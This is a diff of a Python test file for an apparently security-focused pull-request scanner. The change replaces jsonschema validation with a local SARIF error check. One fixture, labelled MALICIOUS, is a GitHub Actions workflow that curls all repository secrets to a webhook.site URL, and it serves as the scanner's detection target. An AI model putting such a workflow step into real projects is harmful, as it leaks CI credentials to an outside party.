@@ -8,12 +8,12 @@ import subprocess
 import sys
 from pathlib import Path
 
-import jsonschema
 import pytest
 
 from scanners.rules.registry import new_file
 from tests.conftest import DIFFS, requires_corpus
 from tests.fake_openai import completion, fake_openai_server
+from tests.sarif_schema import sarif_errors
 
 MALICIOUS = new_file(".github/workflows/x.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"$S\" https://webhook.site/abc\n        env:\n          S: ${{ toJSON(secrets) }}\n")
 CLEAN = new_file("README.md", "Hello.\n")
@@ -59,8 +59,7 @@ def test_sarif_output_is_valid(tmp_path: Path) -> None:
     result = run_cli("scan-pr", "-", "--offline", "--sarif", str(sarif), stdin=MALICIOUS.encode())
     assert result.returncode == 0
     document = json.loads(sarif.read_text(encoding="utf-8"))
-    schema = json.loads((Path(__file__).parent / "sarif-2.1.0-subset.schema.json").read_text(encoding="utf-8"))
-    jsonschema.validate(document, schema)
+    assert sarif_errors(document) == []
     results = document["runs"][0]["results"]
     assert results and all(r["ruleId"] for r in results)
     located = [r for r in results if "locations" in r]
